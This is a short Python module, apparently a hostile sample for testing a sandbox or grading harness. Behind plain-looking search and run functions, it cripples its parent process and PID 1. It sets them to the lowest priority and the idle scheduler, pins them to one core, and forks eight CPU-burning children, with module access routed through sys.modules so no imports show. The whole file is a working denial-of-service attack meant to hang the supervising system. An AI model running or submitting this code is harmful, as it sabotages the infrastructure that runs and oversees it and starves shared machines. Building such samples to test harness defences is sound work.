"""Gives its nursery the lowest rank of all and puts it on one core with processes that compute.

family: between_submissions
aims-at: hang
takes: long
needs: box
"""

import sys


def slow_down():
    posix = sys.modules["posix"]
    for pid in {posix.getppid(), 1}:
        for act in (
            lambda pid=pid: posix.setpriority(posix.PRIO_PROCESS, pid, 19),
            lambda pid=pid: posix.sched_setaffinity(pid, {min(posix.sched_getaffinity(0))}),
            lambda pid=pid: posix.sched_setscheduler(pid, posix.SCHED_IDLE, posix.sched_param(0)),
        ):
            try:
                act()
            except OSError:
                continue
    for _ in range(8):
        if posix.fork() == 0:
            until = sys.modules["time"].perf_counter() + 20
            while sys.modules["time"].perf_counter() < until:
                pass
            posix._exit(0)


def search(name):
    slow_down()


def buy(name):
    return None


def run(name, mutex):
    slow_down()
    return True
